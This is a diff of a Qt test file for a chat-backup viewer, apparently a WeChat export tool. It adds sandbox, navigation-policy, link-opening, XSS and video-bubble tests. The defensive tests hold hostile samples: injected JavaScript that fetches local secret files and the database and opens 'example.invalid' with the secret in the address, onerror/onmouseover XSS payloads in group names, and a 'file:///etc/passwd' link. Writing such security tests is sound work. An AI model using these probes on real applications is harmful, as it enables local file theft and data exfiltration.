@@ -9,7 +9,9 @@
 
 #include <QApplication>
 #include <QComboBox>
-#include <QImage>
+#include <QDesktopServices>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QListWidget>
 #include <QPushButton>
 #include <QTabWidget>
@@ -18,6 +20,32 @@
 #include <QWebEngineView>
 #include <QtTest>
 
+// Takes the addresses the program hands to the desktop's browser or file manager.
+class UrlRecorder final : public QObject
+{
+    Q_OBJECT
+
+public:
+    UrlRecorder()
+    {
+        for (const char* scheme : kSchemes)
+            QDesktopServices::setUrlHandler(QLatin1String(scheme), this, "open");
+    }
+    ~UrlRecorder() override
+    {
+        for (const char* scheme : kSchemes)
+            QDesktopServices::unsetUrlHandler(QLatin1String(scheme));
+    }
+
+    QList<QUrl> urls;
+
+public slots:
+    void open(const QUrl& url) { urls << url; }
+
+private:
+    static constexpr const char* kSchemes[] = {"http", "https", "file", "mailto"};
+};
+
 class TestChatWindow final : public QObject
 {
     Q_OBJECT
@@ -25,9 +53,14 @@ class TestChatWindow final : public QObject
 private slots:
     void initTestCase();
     void clickContactShowsPage();
-    void hostileScriptFindsNoWayOut();
     void navigationRouting_data();
     void navigationRouting();
+    void hostileScriptStaysInThePage();
+    void navigationPolicy();
+    void sharedLinkOpensInTheBrowser();
+    void hostileGroupNameStaysText_data();
+    void hostileGroupNameStaysText();
+    void videoBubbleShowsItsPlayIcon();
     void chooser();
 
 private:
@@ -103,63 +136,6 @@ void TestChatWindow::clickContactShowsPage()
     QCOMPARE(form.webHistory->url(), QUrl::fromLocalFile(form.session().tempFile()));
 }
 
-// Should script ever get into a page (everything from the backup is escaped, so it should not),
-// it can read no local file but the page's own media, open no window and go nowhere.
-void TestChatWindow::hostileScriptFindsNoWayOut()
-{
-    const QString secret = m_tmp.filePath(QStringLiteral("secret.png"));
-    QImage pixel(4, 4, QImage::Format_RGB32);
-    pixel.fill(Qt::red);
-    QVERIFY(pixel.save(secret));
-    const QString secretUrl = QUrl::fromLocalFile(secret).toString();
-
-    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
-    form.InitFriends();
-    form.resize(1000, 800);
-    form.show();
-    QVERIFY(QTest::qWaitForWindowExposed(&form));
-    QSignalSpy shown(&form, &TFormChat::pageShown);
-    form.lstFriends->setCurrentRow(0);
-    form.lstFriendsItemClick(form.lstFriends);
-    QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
-    QWebEnginePage* page = form.webHistory->page();
-    const QUrl pageUrl = form.webHistory->url();
-    QCOMPARE(pageUrl, QUrl::fromLocalFile(form.session().tempFile()));
-    // The page's own pictures load, as they must.
-    QTRY_VERIFY_WITH_TIMEOUT(
-        runJs(page, "Array.from(document.images).every(i => i.complete && i.naturalWidth > 0)")
-            .toBool(),
-        10000);
-
-    runJs(page, QStringLiteral(R"(
-        window.probe = {};
-        fetch('%1').then(r => r.text()).then(t => probe.fetch = 'read ' + t.length,
-                                              e => probe.fetch = 'refused');
-        var x = new XMLHttpRequest();
-        x.onload = () => probe.xhr = 'read'; x.onerror = () => probe.xhr = 'refused';
-        try { x.open('GET', '%1'); x.send(); } catch (e) { probe.xhr = 'refused'; }
-        var img = new Image();
-        img.onload = () => probe.img = 'loaded'; img.onerror = () => probe.img = 'refused';
-        img.src = '%1';
-        probe.open = window.open('%1') === null ? 'refused' : 'opened';
-        true)")
-                    .arg(secretUrl));
-    QTRY_VERIFY_WITH_TIMEOUT(
-        runJs(page, "!!(probe.fetch && probe.xhr && probe.img && probe.open)").toBool(), 10000);
-    QCOMPARE(runJs(page, "probe.fetch").toString(), QStringLiteral("refused"));
-    QCOMPARE(runJs(page, "probe.xhr").toString(), QStringLiteral("refused"));
-    QCOMPARE(runJs(page, "probe.img").toString(), QStringLiteral("refused"));
-    QCOMPARE(runJs(page, "probe.open").toString(), QStringLiteral("refused"));
-    QVERIFY(form.blockedRequests().contains(QUrl(secretUrl)));
-
-    // A navigation to another file, or to the web, leaves the conversation where it is.
-    for (const QString& target : {secretUrl, QStringLiteral("http://127.0.0.1:9/x")}) {
-        runJs(page, QStringLiteral("location.href = '%1'; true").arg(target));
-        QTest::qWait(300);
-        QCOMPARE(form.webHistory->url(), pageUrl);
-    }
-}
-
 void TestChatWindow::navigationRouting_data()
 {
     QTest::addColumn<QString>("address");
@@ -196,6 +172,315 @@ void TestChatWindow::navigationRouting()
     QCOMPARE(form.webHistoryBeforeNavigate(address), cancel);
     QCOMPARE(openedImage, image.isEmpty() ? QString() : form.session().tempPath() + image);
     QCOMPARE(openedVideo, video.isEmpty() ? QString() : form.session().tempPath() + video);
+}
+
+// Opens the window on the sample account and shows Alice's conversation (pictures, a video).
+static void showAlice(TFormChat& form)
+{
+    form.InitFriends();
+    form.resize(1200, 900);
+    form.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&form));
+    QSignalSpy shown(&form, &TFormChat::pageShown);
+    form.lstFriends->setCurrentRow(0);
+    form.lstFriendsItemClick(form.lstFriends);
+    QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
+    QVERIFY(shown.first().first().toBool());
+    QTRY_VERIFY_WITH_TIMEOUT(
+        runJs(form.webHistory->page(),
+              QStringLiteral("document.images.length == 3 && Array.from(document.images).every(i "
+                             "=> i.complete && i.naturalWidth > 0)"))
+            .toBool(),
+        10000);
+}
+
+// Script that got into the page (by a fault of the page's making) reads no local file, opens
+// no window, leaves the page for no other file, and hands nothing to the system's browser.
+void TestChatWindow::hostileScriptStaysInThePage()
+{
+    const QString outside = m_tmp.filePath(QStringLiteral("outside"));
+    QVERIFY(QDir().mkpath(outside));
+    auto writeFile = [&](const QString& name, const QByteArray& bytes) {
+        QFile f(QDir(outside).filePath(name));
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write(bytes);
+    };
+    writeFile(QStringLiteral("secret.txt"), "SECRET-4711");
+    writeFile(QStringLiteral("secret.jpg"),
+              wechat::jpegImage(40, 30, 0xff0000, QStringLiteral("secret")));
+    writeFile(QStringLiteral("other.html"), "<p>OTHER-4712</p>");
+
+    UrlRecorder opened;
+
+    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
+    QList<QUrl> blocked;
+    connect(&form, &TFormChat::requestBlocked, this, [&blocked](const QUrl& u) { blocked << u; });
+    showAlice(form);
+    if (QTest::currentTestFailed())
+        return;
+    QWebEnginePage* page = form.webHistory->page();
+    const QUrl pageUrl = form.webHistory->url();
+    QCOMPARE(pageUrl, QUrl::fromLocalFile(form.session().tempFile()));
+
+    const auto url = [&](const QString& name) {
+        return QUrl::fromLocalFile(QDir(outside).filePath(name)).toString();
+    };
+    const QString db = QUrl::fromLocalFile(m_fx->dbPath).toString();
+    const QString voice =
+        QUrl::fromLocalFile(form.session().tempFolder("Audio") + QStringLiteral("7.amr"))
+            .toString();
+    const QString script =
+        QStringLiteral(R"((async () => {
+  const r = {};
+  const read = async (u) => {
+    try { const x = await fetch(u); return 'read ' + (await x.text()).slice(0, 20); }
+    catch (e) { return 'blocked'; }
+  };
+  r.secret = await read('%1');
+  r.db = await read('%2');
+  r.voice = await read('%3');
+  try {
+    const x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();
+    r.xhr = 'read ' + x.responseText;
+  } catch (e) { r.xhr = 'blocked'; }
+  r.img = await new Promise(res => {
+    const i = new Image(); i.onload = () => res('loaded'); i.onerror = () => res('blocked');
+    i.src = '%4'; document.body.appendChild(i);
+  });
+  r.frame = await new Promise(res => {
+    const f = document.createElement('iframe');
+    f.onload = () => {
+      let t = '';
+      try { t = f.contentDocument.body.innerText; } catch (e) { t = 'opaque'; }
+      res('loaded ' + t);
+    };
+    setTimeout(() => res('none'), 3000);
+    f.src = '%5'; document.body.appendChild(f);
+  });
+  r.open = window.open('%5') ? 'opened' : 'null';
+  r.openWeb = window.open('https://example.invalid/?' + r.secret) ? 'opened' : 'null';
+  document.body.setAttribute('data-probe', JSON.stringify(r));
+})(); true)")
+            .arg(url(QStringLiteral("secret.txt")), db, voice, url(QStringLiteral("secret.jpg")),
+                 url(QStringLiteral("other.html")));
+    QVERIFY(runJs(page, script).toBool());
+    QString probe;
+    QTRY_VERIFY_WITH_TIMEOUT(
+        !(probe = runJs(page, QStringLiteral("document.body.getAttribute('data-probe') || ''"))
+                      .toString())
+             .isEmpty(),
+        15000);
+    const QJsonObject r = QJsonDocument::fromJson(probe.toUtf8()).object();
+    for (const char* key : {"secret", "db", "voice", "xhr", "img"})
+        QVERIFY2(r.value(QLatin1String(key)).toString() == QLatin1String("blocked"),
+                 qPrintable(key + QStringLiteral(": ") + r.value(QLatin1String(key)).toString()));
+    QVERIFY2(!r.value(QLatin1String("frame")).toString().contains(QLatin1String("OTHER-4712")),
+             qPrintable(probe));
+    QCOMPARE(r.value(QLatin1String("open")).toString(), QStringLiteral("null"));
+    QCOMPARE(r.value(QLatin1String("openWeb")).toString(), QStringLiteral("null"));
+
+    // Leaving the page, for another file or for the web, goes nowhere.
+    for (const QString& target :
+         {url(QStringLiteral("other.html")), QStringLiteral("https://example.invalid/?SECRET")}) {
+        runJs(page, QStringLiteral("location.href = '%1'; true").arg(target));
+        QTest::qWait(1000);
+        QCOMPARE(form.webHistory->url(), pageUrl);
+    }
+    QCOMPARE(runJs(page, QStringLiteral("document.querySelectorAll('div.speech').length")).toInt(),
+             12);
+    QVERIFY2(opened.urls.isEmpty(), qPrintable(QUrl::toStringList(opened.urls).join(' ')));
+    for (const char* name : {"secret.txt", "secret.jpg"})
+        QVERIFY2(blocked.contains(QUrl(url(QLatin1String(name)))), name);
+}
+
+// Where the view may go once a page is shown, and which addresses reach the browser.
+void TestChatWindow::navigationPolicy()
+{
+    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
+    UrlRecorder opened;
+    showAlice(form);
+    if (QTest::currentTestFailed())
+        return;
+    const QUrl page = QUrl::fromLocalFile(form.session().tempFile());
+    const QUrl thumb =
+        QUrl::fromLocalFile(form.session().tempFolder("Image") + QStringLiteral("3.pic_thum"));
+    struct Case
+    {
+        const char* name;
+        QUrl url;
+        bool mainFrame;
+        bool allowed;
+    };
+    const Case cases[] = {
+        {"the page", page, true, true},
+        {"the page at an anchor", QUrl(page.toString() + QStringLiteral("#x")), true, true},
+        {"the page in a frame", page, false, false},
+        {"a picture of the page, as a page", thumb, true, false},
+        {"another file beside the page",
+         QUrl::fromLocalFile(form.session().tempPath() + QStringLiteral("other.html")), true,
+         false},
+        {"the database", QUrl::fromLocalFile(m_fx->dbPath), true, false},
+        {"a web address", QUrl(QStringLiteral("https://example.com/trip")), true, false},
+        {"blank content after the first page", QUrl(QStringLiteral("data:text/html,x")), true,
+         false},
+        {"about:blank", QUrl(QStringLiteral("about:blank")), true, false},
+    };
+    for (const Case& c : cases)
+        QVERIFY2(form.navigationAllowed(c.url, c.mainFrame) == c.allowed, c.name);
+
+    struct Link
+    {
+        const char* address;
+        bool opens;
+    };
+    // The page's one link is https://example.com/trip.
+    const Link links[] = {
+        {"https://example.com/trip", true},
+        {"https://EXAMPLE.com/./trip", true},
+        {"https://example.com/trip?q=SECRET", false},
+        {"https://example.com/trip/", false},
+        {"http://example.com/trip", false},
+        {"https://example.org/", false},
+        {"file:///etc/passwd", false},
+        {"mailto:someone@example.com", false},
+    };
+    for (const Link& l : links) {
+        opened.urls.clear();
+        form.openLink(QUrl(QLatin1String(l.address)));
+        QVERIFY2(opened.urls.size() == (l.opens ? 1 : 0), l.address);
+    }
+}
+
+// A click on a shared link, the user's own, opens its address in the browser; the page stays.
+void TestChatWindow::sharedLinkOpensInTheBrowser()
+{
+    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
+    UrlRecorder opened;
+    showAlice(form);
+    if (QTest::currentTestFailed())
+        return;
+    QWebEnginePage* page = form.webHistory->page();
+    const QVariantList at =
+        runJs(page, QStringLiteral("(() => { const a = document.querySelector('a[href]');"
+                                   "a.scrollIntoView(); const r = a.getBoundingClientRect();"
+                                   "return [r.left + 5, r.top + r.height / 2]; })()"))
+            .toList();
+    QCOMPARE(at.size(), 2);
+    QWidget* surface = form.webHistory->focusProxy();
+    QVERIFY(surface);
+    QTest::mouseClick(surface, Qt::LeftButton, {},
+                      QPoint(int(at[0].toDouble()), int(at[1].toDouble())));
+    QTRY_COMPARE_WITH_TIMEOUT(opened.urls, QList<QUrl>{QUrl("https://example.com/trip")}, 10000);
+    QCOMPARE(form.webHistory->url(), QUrl::fromLocalFile(form.session().tempFile()));
+}
+
+void TestChatWindow::hostileGroupNameStaysText_data()
+{
+    QTest::addColumn<QString>("id");
+    QTest::addColumn<QString>("name");
+    // The id stands for a word of the picture's markup; the name is an attribute list.
+    QTest::newRow("id IMG") << "IMG"
+                            << "img src=x onerror=document.body.dataset.pwned=1";
+    QTest::newRow("id onclick") << "onclick"
+                                << "onmouseover=document.body.dataset.pwned=1 onclick";
+    QTest::newRow("id style") << "style"
+                              << "img src=x onerror=document.body.dataset.pwned=1 style";
+}
+
+// A group member whose id is a word of the page's markup and whose name is markup: the page
+// shows the name as text, and no script of it runs.
+void TestChatWindow::hostileGroupNameStaysText()
+{
+    QFETCH(QString, id);
+    QFETCH(QString, name);
+    const QString group = QStringLiteral("888@chatroom");
+    wechat::Database db;
+    db.friends = {{group, QStringLiteral("Club"), {}, 2}, {id, name, {}, 3}};
+    db.chats[group] = {{1000, id + QStringLiteral(":\nlook"), 1, 1, 1},
+                       {1001, id + QStringLiteral(":\n<msg><img/></msg>"), 3, 1, 2}};
+    ChatFixture fx(
+        accountBackup(db, {{mediaPath("Img", group, 2, ".pic_thum"),
+                            wechat::jpegImage(60, 40, 0x00ff00, QStringLiteral("t"))},
+                           {mediaPath("Img", group, 2, ".pic"),
+                            wechat::jpegImage(120, 80, 0x00ff00, QStringLiteral("p"))}}));
+    TFormChat form(fx.dbPath, fx.recordDict, fx.backupPath, fx.root);
+    form.InitFriends();
+    form.resize(1200, 900);
+    form.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&form));
+    QSignalSpy shown(&form, &TFormChat::pageShown);
+    QCOMPARE(form.lstGroups->count(), 1);
+    form.lstGroups->setCurrentRow(0);
+    form.lstFriendsItemClick(form.lstGroups);
+    QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
+    QWebEnginePage* page = form.webHistory->page();
+    QTRY_VERIFY_WITH_TIMEOUT(
+        runJs(page, QStringLiteral("Array.from(document.images).every(i => i.complete)")).toBool(),
+        10000);
+    // Give a handler on the page the chance to run, as a mouse over the bubble would.
+    runJs(page, QStringLiteral("document.querySelectorAll('*').forEach(e => "
+                               "e.dispatchEvent(new MouseEvent('mouseover'))); true"));
+    QTest::qWait(300);
+    QCOMPARE(runJs(page, QStringLiteral("document.body.dataset.pwned === undefined")).toBool(),
+             true);
+    QCOMPARE(runJs(page, QStringLiteral("document.querySelectorAll('[onerror], [onmouseover]')."
+                                        "length"))
+                 .toInt(),
+             0);
+    QCOMPARE(runJs(page, QStringLiteral("document.images.length")).toInt(), 1);
+    const QStringList headers =
+        runJs(page, QStringLiteral("Array.from(document.querySelectorAll('div.leftimg'), "
+                                   "d => d.textContent.trim())"))
+            .toStringList();
+    QCOMPARE(headers.size(), 2);
+    for (const QString& header : headers)
+        QVERIFY2(header.startsWith(name + QStringLiteral("  ")), qPrintable(header));
+    QCOMPARE(runJs(page, QStringLiteral("document.querySelector('div.speech').textContent.trim()"))
+                 .toString(),
+             name + QStringLiteral(":\nlook"));
+}
+
+// The video bubble: its thumbnail under a play icon that the play-button rules draw, no stray
+// character, and a click on the icon plays the video.
+void TestChatWindow::videoBubbleShowsItsPlayIcon()
+{
+    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
+    showAlice(form);
+    if (QTest::currentTestFailed())
+        return;
+    QWebEnginePage* page = form.webHistory->page();
+    const QString probe = runJs(page, QStringLiteral(R"((() => {
+  const b = document.querySelector('span.play-button');
+  if (!b) return 'no play button';
+  b.scrollIntoView({block: 'center'});
+  const bubble = b.closest('div.speech');
+  const img = bubble.querySelector('img');
+  const cs = getComputedStyle(b);
+  const br = b.getBoundingClientRect(), ir = img.getBoundingClientRect();
+  const x = br.left + br.width / 2, y = br.top + br.height / 2;
+  const hit = document.elementFromPoint(x, y);
+  return JSON.stringify({width: cs.width, radius: cs.borderTopLeftRadius,
+    over: x > ir.left && x < ir.right && y > ir.top && y < ir.bottom,
+    onTop: hit === b || b.contains(hit), text: bubble.textContent.trim(),
+    thumb: img.complete && img.naturalWidth > 0, x: Math.round(x), y: Math.round(y)});
+})())"))
+                              .toString();
+    const QJsonObject r = QJsonDocument::fromJson(probe.toUtf8()).object();
+    QVERIFY2(!r.isEmpty(), qPrintable(probe));
+    QCOMPARE(r.value(QLatin1String("width")).toString(), QStringLiteral("20px"));
+    QCOMPARE(r.value(QLatin1String("radius")).toString(), QStringLiteral("54px"));
+    QVERIFY2(r.value(QLatin1String("over")).toBool(), qPrintable(probe));
+    QVERIFY2(r.value(QLatin1String("onTop")).toBool(), qPrintable(probe));
+    QVERIFY2(r.value(QLatin1String("thumb")).toBool(), qPrintable(probe));
+    QCOMPARE(r.value(QLatin1String("text")).toString(), QString());
+
+    QString played;
+    form.openVideo = [&played](const TExportFile& f) { played = f.srcFile; };
+    QTest::mouseClick(
+        form.webHistory->focusProxy(), Qt::LeftButton, {},
+        QPoint(r.value(QLatin1String("x")).toInt(), r.value(QLatin1String("y")).toInt()));
+    QTRY_COMPARE_WITH_TIMEOUT(played, form.session().tempFolder("Video") + QStringLiteral("6.mp4"),
+                              10000);
 }
 
 void TestChatWindow::chooser()
